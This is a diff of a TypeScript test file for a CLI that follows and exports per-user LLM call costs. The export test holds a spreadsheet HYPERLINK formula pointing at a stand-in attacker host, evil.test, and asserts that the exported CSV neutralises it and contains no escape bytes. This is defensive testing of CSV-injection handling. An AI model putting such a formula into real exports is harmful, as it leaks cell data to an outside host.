@@ -138,14 +138,21 @@ describe("p2 calls", () => {
   })
 
   it("follows: prints calls as they end", async () => {
+    await withBudget((budget) => spend(budget, { userId: "eve", model: "gpt-4o-mini" }, "0.001"))
     const following = world.start(["calls", "--follow", "--user", "eve", "--json"])
-    await withBudget((budget) => spend(budget, { userId: "eve", model: "gpt-4o-mini" }, "0.01"))
-    await following.wrote('"costNanoUsd":10000000')
+    await following.wrote('"costNanoUsd":1000000')
+    // Many in one millisecond, whose keys are in another order than they are written.
+    await withBudget(async (budget) => {
+      await spend(budget, { userId: "bob", model: "gpt-4o-mini" }, "0.01")
+      await Promise.all(
+        Array.from({ length: 30 }, () => spend(budget, { userId: "eve", model: "gpt-4o-mini" }, "0.002")),
+      )
+    })
     await withBudget((budget) => spend(budget, { userId: "eve", model: "gpt-4o-mini" }, "0.02"))
     await following.wrote('"costNanoUsd":20000000')
     following.child.kill("SIGINT")
     const { stdout, stderr } = await following.ended
-    expect([stdout.trim().split("\n").length, stderr]).toEqual([2, ""])
+    expect([stdout.trim().split("\n").length, stderr]).toEqual([32, ""])
     expect(stdout).not.toContain(PROMPT)
   })
 })
@@ -167,6 +174,7 @@ describe("p2 export", () => {
     expect(rows[0]).toMatch(/^time,requestId,attempt,userId,clientId,provider,model,/)
     expect(rows.join("\n")).toContain(`,"'=HYPERLINK(""http://evil.test?""&A1)",`)
     expect(output).not.toMatch(/(^|,)"?[=+@-]/m)
+    expect(output).not.toContain("\u001b")
     expect(rows.find((row) => row.includes(",bob,"))).toContain(",500000000,")
     expect(output).not.toContain(PROMPT)
   })
